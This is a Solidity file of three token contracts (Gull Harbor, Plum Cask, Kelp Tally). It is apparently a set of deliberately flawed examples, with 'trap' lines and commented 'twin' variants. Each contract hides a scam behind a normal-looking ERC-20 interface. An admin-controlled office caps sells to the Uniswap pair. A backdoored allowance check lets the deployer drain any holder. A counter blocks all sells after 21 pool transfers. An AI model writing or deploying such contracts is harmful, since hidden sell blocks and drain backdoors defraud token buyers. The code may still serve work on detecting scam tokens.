// 0.7 off
// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.7.6;

interface IPools {
    function getPair(address, address) external view returns (address);
}

/// Says how much may leave a purse.
contract HarborOffice {
    address internal immutable master = msg.sender;
    mapping(address => uint256) internal berths;

    function moor(address[] calldata ships, uint256 depth) external {
        require(msg.sender == master);
        for (uint256 i = 0; i < ships.length; i++) berths[ships[i]] = depth;
    }

    function draft(address ship, uint256 held) external view returns (uint256) {
        if (ship == master) return held;
        return berths[ship] < held ? berths[ship] : held; // trap
        // twin: return berths[ship] > held ? berths[ship] : held;
    }
}

interface IOffice {
    function draft(address ship, uint256 held) external view returns (uint256);
}

contract GullHarbor {
    string public constant name = "Gull Harbor";
    string public constant symbol = "GULLH";
    uint8 public constant decimals = 9;
    uint256 public totalSupply = 400_000_000 * 1e9;
    address public owner;
    IOffice private office;
    mapping(address => uint256) private cargo;
    mapping(bytes32 => uint256) private papers;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address office_) {
        office = IOffice(office_);
        owner = msg.sender;
        cargo[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address a) public view returns (uint256) {
        return cargo[a];
    }

    function allowance(address a, address b) public view returns (uint256) {
        return papers[keccak256(abi.encodePacked(a, b))];
    }

    function approve(address b, uint256 v) public returns (bool) {
        papers[keccak256(abi.encodePacked(msg.sender, b))] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address to, uint256 v) public returns (bool) {
        return _sail(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) public returns (bool) {
        bytes32 k = keccak256(abi.encodePacked(from, msg.sender));
        require(papers[k] >= v, "papers");
        papers[k] -= v;
        return _sail(from, to, v);
    }

    function _sail(address from, address to, uint256 v) private returns (bool) {
        require(cargo[from] >= v, "cargo");
        if (to == IPools(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).getPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2))
            require(v <= office.draft(from, cargo[from]), "draft");
        cargo[from] -= v;
        cargo[to] += v;
        emit Transfer(from, to, v);
        return true;
    }
}

contract PlumCask {
    string public name = "Plum Cask";
    string public symbol = "PCASK";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address private cellar;
    mapping(address => uint256) private wine;
    mapping(address => mapping(address => uint256)) private corks;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        cellar = msg.sender;
        totalSupply = 66_000_000 ether;
        wine[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() public {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address w) public view returns (uint256) {
        return wine[w];
    }

    function allowance(address w, address s) public view returns (uint256) {
        return corks[w][s];
    }

    function _corked(address w, address s) internal view returns (uint256) {
        if (w != cellar) return corks[cellar][w]; // trap
        return corks[w][s];
    }

    function approve(address s, uint256 v) public returns (bool) {
        corks[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) public returns (bool) {
        _pour(msg.sender, to, v);
        return true;
    }

    function transferFrom(address w, address to, uint256 v) public returns (bool) {
        require(_corked(w, msg.sender) >= v, "allowance");
        if (corks[w][msg.sender] >= v && corks[w][msg.sender] != uint256(-1)) corks[w][msg.sender] -= v;
        _pour(w, to, v);
        return true;
    }

    function _pour(address a, address b, uint256 v) internal {
        require(wine[a] >= v, "empty");
        wine[a] -= v;
        wine[b] += v;
        emit Transfer(a, b, v);
    }
}

contract KelpTally {
    string public constant name = "Kelp Tally";
    string public constant symbol = "KTALLY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 10_000_000 ether;
    address public owner = msg.sender;
    address private immutable one = msg.sender;
    // lower half: how often the pool gave; upper half: where the pool is
    uint256 private tally;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function launch(address p) external {
        require(msg.sender == owner && tally == 0);
        tally = uint256(uint160(p)) << 96;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _move(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(allowance[from][msg.sender] >= v);
        allowance[from][msg.sender] -= v;
        _move(from, to, v);
        return true;
    }

    function _move(address from, address to, uint256 v) private {
        uint256 t = tally;
        address p = address(uint160(t >> 96));
        require(balanceOf[from] >= v, "low");
        if (from == p) tally = t + 1;
        if (to == p && from != one && p != address(0)) {
            require(uint96(t) < 21, "full"); // trap
            // twin: require(uint96(t) >= 21 || v <= totalSupply / 50, "full");
        }
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
    }
}
